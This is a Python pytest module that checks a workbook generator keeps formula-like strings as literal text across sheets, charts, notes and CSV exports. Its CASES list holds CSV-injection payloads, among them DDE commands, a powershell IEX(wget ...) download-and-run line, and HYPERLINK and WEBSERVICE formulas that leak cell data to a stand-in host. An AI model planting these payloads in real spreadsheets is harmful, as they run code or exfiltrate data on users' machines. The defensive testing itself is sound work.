"""Does text that looks like a formula stay text, wherever a page can have it?

The cases are those of OWASP's page on CSV injection
(owasp.org/www-community/attacks/CSV_Injection) and payloads known from reports. The
programs that open the workbook are openpyxl and LibreOffice; Excel runs nowhere here,
but a cell of type text without a formula has nothing for it to compute.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import zipfile
from datetime import date
from itertools import count
from typing import TYPE_CHECKING

import pytest
from defusedxml.ElementTree import fromstring
from openpyxl import load_workbook

from tests.recalculated import OFFICE_PYTHON, TOOL, needs_office, recalculate
from xl_crm.i18n import Lang
from xl_crm.reports._spec import (
    Book,
    Chart,
    ChartKind,
    Choices,
    Column,
    Link,
    Links,
    Page,
    Parameter,
    Parameters,
    Table,
    Text,
    Tone,
    Total,
)
from xl_crm.tables.unit import Unit
from xl_crm.workbook import write_books

if TYPE_CHECKING:
    from pathlib import Path
    from xml.etree.ElementTree import Element

pytestmark = pytest.mark.slow

#: Equals, plus, minus, at, tab, carriage return, line feed and the full-width signs
#: start a formula; then OWASP's examples of breaking out of a cell, and payloads.
CASES = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "+-=1+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=HYPERLINK("http://x.invalid/?leak="&A1,"click")',
    '=IMPORTXML(CONCAT("http://x.invalid/?v=",A1),"//a")',
    '=WEBSERVICE("http://x.invalid/"&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    "=[other.xlsx]Sheet1!A1",
    "=Facts!A1",
    "=",
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    " =1+1",
    ";=1+1",
    ",=1+1",
    "%0A=1+1",
    "=ＳＵＭ(1)",
    "=1+1\x00",
    "_x003D_1+1",
)
N_CASES = len(CASES)

#: So many columns of the data page hold every case.
COLUMNS = 3

#: Title and axis titles of each chart.
THREES = tuple(zip(*[iter(CASES)] * 3, strict=True))


def read_as(text: str) -> str:
    """A case as a cell shows it: a carriage return is a line end, NUL is no sign."""
    return text.replace("\r", "\n").replace("\x00", "")


def on_one_line(text: str) -> str:
    """A case as a heading shows it."""
    return " ".join(read_as(text).split())


def data_page() -> Page:
    """The cases in columns of three units, as headings and as notes on them."""
    headed = tuple(
        Column(name=f"c{number}", heading=case, note=case, values=[None] * N_CASES)
        for number, case in enumerate(CASES)
    )
    table = Table(
        name="facts",
        columns=(
            Column(name="id", heading="ID", values=CASES, unit=Unit.ID),
            Column(name="t", heading="Text", values=CASES, total=Total.COUNT),
            Column(name="m", heading="Money", values=CASES, unit=Unit.MONEY),
            *headed,
        ),
        key=("id",),
        total_label=CASES[0],
    )
    return Page(name="facts", sheet="=1+1", title=CASES[0], blocks=(table,))


def stacked_page() -> Page:
    """The cases as everything that stands outside of data pages."""
    names = count()
    parameters = tuple(
        Parameter(
            name=f"parameter_{next(names)}",
            label=case,
            value=case,
            note=case,
            choices="words",
        )
        for case in CASES
    )
    table = Table(
        name="small",
        title=CASES[0],
        note=CASES[1],
        columns=(
            Column(
                name="word",
                heading=CASES[0],
                values=CASES,
                choices="words",
                tones=dict.fromkeys(map(read_as, CASES), Tone.BAD),
                editable=True,
            ),
            Column(name="n", heading=CASES[2], values=range(N_CASES), unit=Unit.COUNT),
        ),
        key=("word",),
    )
    charts = tuple(
        Chart(
            kind=ChartKind.BAR,
            title=title,
            table="small",
            categories="word",
            series=("n",),
            alt_text=title,
            x_title=x_title,
            y_title=y_title,
        )
        for title, x_title, y_title in THREES
    )
    return Page(
        name="rest",
        sheet="-1+1",
        title=CASES[0],
        summary=CASES[3],
        blocks=(
            Text(title=CASES[0], lines=CASES),
            Links(title=CASES[0], links=(Link(page="facts", text="=1", note="=1"),)),
            Parameters(name="p", title=CASES[0], note=CASES[0], parameters=parameters),
            table,
            *charts,
        ),
    )


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    words = tuple(dict.fromkeys(map(read_as, CASES)))
    book = Book(
        name="attack",
        title=CASES[0],
        subject=CASES[1],
        lang=Lang.EN,
        as_of=date(2024, 6, 30),
        pages=(data_page(), stacked_page()),
        lists=(Choices(name="words", heading=CASES[0], values=words),),
    )
    (written,) = write_books({tmp_path_factory.mktemp("attack") / "a.xlsx": book})
    return written


def formulas(path: Path) -> dict[str, str]:
    """Every formula of a workbook as openpyxl finds it, by sheet and cell."""
    return {
        f"{sheet.title}!{cell.coordinate}": str(cell.value)
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def texts(path: Path) -> dict[str, list[str]]:
    """All texts of each sheet as LibreOffice reads them; no cell may be a formula."""
    done = subprocess.run(
        [str(OFFICE_PYTHON), str(TOOL), "values", str(path), "--formulas"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    found = {}
    for sheet, area in json.loads(done.stdout).items():
        used = [each for row in area["formulas"] for each in row if each]
        assert [each for each in used if "SUBTOTAL" not in each] == []
        found[sheet] = [
            value for row in area["values"] for value in row if isinstance(value, str)
        ]
    return found


def assert_all_there(found: dict[str, list[str]]) -> None:
    """Each case is found as often as pages have it, letter by letter."""
    facts, rest, lists = (found[sheet] for sheet in ("=1+1", "-1+1", "Lists"))
    for case in CASES:
        text = read_as(case)
        assert facts.count(text) >= COLUMNS, case
        assert lists.count(text) >= 1, case
        # value, label and note of a parameter, a line of text, a cell of the table
        assert rest.count(text) >= 5, case


def test_the_file_has_no_formula_but_its_total(path: Path) -> None:
    assert [each for each in formulas(path).values() if "SUBTOTAL" not in each] == []
    assert len(formulas(path)) == 1


def test_the_file_leads_nowhere(path: Path) -> None:
    """No external link, no connection, no target outside the file."""
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        outside = [
            name
            for name in names
            if name.endswith(".rels") and b'TargetMode="External"' in archive.read(name)
        ]
    assert outside == []
    assert [
        each for each in names if re.search("externalLink|connection|query", each)
    ] == []


def test_charts_and_notes_hold_the_words_as_they_are(path: Path) -> None:
    """Titles of charts and axes are literal text, never a reference to a cell."""
    with zipfile.ZipFile(path) as archive:
        parts = {
            name: fromstring(archive.read(name))
            for name in archive.namelist()
            if re.search(r"charts/chart|comments/|drawings/drawing\d+.xml", name)
        }
    for number, three in enumerate(THREES, 1):
        chart = parts[f"xl/charts/chart{number}.xml"]
        assert words(chart, "t") == set(map(on_one_line, three))
        assert {each.split("!")[0] for each in words(chart, "f")} == {"'-1+1'"}
    drawing = parts["xl/drawings/drawing1.xml"]
    described = {each.get("descr") for each in drawing.iter()} - {None}
    assert described == {on_one_line(title) for title, _, _ in THREES}
    notes = words(parts["xl/comments/comment1.xml"], "t")
    # ECMA-376 part 1, 22.9.2.19 (ST_Xstring): what looks like an escape is escaped.
    escaped = {"_x003D_1+1": "_x005F_x003D_1+1"}
    assert notes == {escaped.get(case, read_as(case)) for case in CASES}


def words(root: Element, tag: str) -> set[str]:
    """The texts of all elements of a name, in any namespace."""
    found = (each.text for each in root.iter() if each.tag.endswith("}" + tag))
    return {text for text in found if text}


@needs_office
@pytest.mark.shared
@pytest.mark.libreoffice
def test_libreoffice_finds_the_same_texts_and_no_formula(path: Path) -> None:
    assert_all_there(texts(path))


@needs_office
@pytest.mark.shared
@pytest.mark.libreoffice
def test_they_stay_text_when_libreoffice_saves_the_workbook(
    path: Path, tmp_path: Path
) -> None:
    saved = recalculate(path, tmp_path)
    assert_all_there(texts(saved))
    assert [each for each in formulas(saved).values() if "SUBTOTAL" not in each] == []


#: Comma, double quotes, UTF-8, from line 1; then whether quoted fields are text and
#: whether all text is quoted.
CSV = "Text - txt - csv (StarCalc):44,34,76,1,,0,{quoted},true,false"


def convert(source: Path, folder: Path, kind: str, *options: str) -> Path:
    """Convert a file as a person would with "Save as"."""
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    program = shutil.which("soffice") or "soffice"
    subprocess.run(
        [
            *(program, profile, "--headless", *options, "--convert-to", kind),
            *("--outdir", str(folder), str(source)),
        ],
        capture_output=True,
        check=True,
        timeout=120,
    )
    return folder / f"{source.stem}.{kind.partition(':')[0]}"


@needs_office
@pytest.mark.libreoffice
def test_as_csv_they_stay_text_only_where_all_text_is_quoted(
    path: Path, tmp_path: Path
) -> None:
    """CSV has no types, so "=1+1" is a formula again for whoever opens it as it comes.

    With "quote all text cells" on saving and "format quoted field as text" on opening
    LibreOffice keeps every text. The file itself always holds the words unchanged.
    """
    plain, quoted = tmp_path / "plain", tmp_path / "quoted"
    for folder, flag in ((plain, "false"), (quoted, "true")):
        kind = CSV.format(quoted=flag)
        saved = convert(path, folder, f"csv:{kind}")
        with saved.open(encoding="utf-8", newline="") as lines:
            rows = list(csv.reader(lines))
        assert [row[0] for row in rows[1 : N_CASES + 1]] == [*map(read_as, CASES)]
        opened = convert(saved, folder, "xlsx", f"--infilter={kind}")
        found = formulas(opened)
        if folder is quoted:
            assert found == {}
        else:
            starts = [text for text in CASES if text.startswith("=") and len(text) > 1]
            assert len(found) >= len(starts) * COLUMNS
